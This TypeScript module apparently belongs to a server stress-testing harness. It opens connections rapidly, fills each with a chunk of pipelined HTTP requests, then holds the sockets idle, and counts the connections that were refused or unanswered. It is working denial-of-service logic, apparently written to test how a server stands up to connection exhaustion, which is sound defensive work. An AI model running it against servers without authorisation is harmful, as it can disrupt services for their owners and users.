// Connections that send at once as many requests as a server reads in one chunk, read all answers, and stay idle for a
// while after the attack is over.

import type { Socket } from 'node:net';
import type { Attack } from './attack';
import { openConnections } from './open-connections';

const CHUNK = 64 * 1024;
const PER_SECOND = 500;
const ANSWER = 'HTTP/1.1 ';

/** Resolves with true when as many answers have begun as there were requests; with false when the connection closes. */
const answered = (socket: Socket, requests: number) =>
  new Promise<boolean>((resolve) => {
    let text = '';
    let answers = 0;
    socket.on('data', (bytes: Buffer) => {
      text += bytes.toString('latin1');
      const parts = text.split(ANSWER);
      answers += parts.length - 1;
      text = parts.at(-1)?.slice(-ANSWER.length) ?? '';
      if (answers === requests) resolve(true);
    });
    socket.once('close', () => resolve(false));
  });

/** Resolves with the number of connections that could not be opened or did not get all answers. */
export async function stayIdle(attack: Extract<Attack, { kind: 'idle' }>): Promise<number> {
  const requests = Math.floor((CHUNK - attack.tail.length) / attack.request.length);
  const chunk = Buffer.from(attack.request.repeat(requests) + attack.tail, 'latin1');
  const sockets: Socket[] = [];
  const all: Promise<boolean>[] = [];
  const { refused } = await openConnections({ ...attack, perSecond: PER_SECOND }, (socket) => {
    sockets.push(socket);
    all.push(answered(socket, requests));
    socket.write(chunk);
  });
  const unanswered = (await Promise.all(all)).filter((isAnswered) => !isAnswered).length;
  setTimeout(() => {
    for (const socket of sockets) socket.destroy();
  }, attack.forMs);
  return refused + unanswered;
}
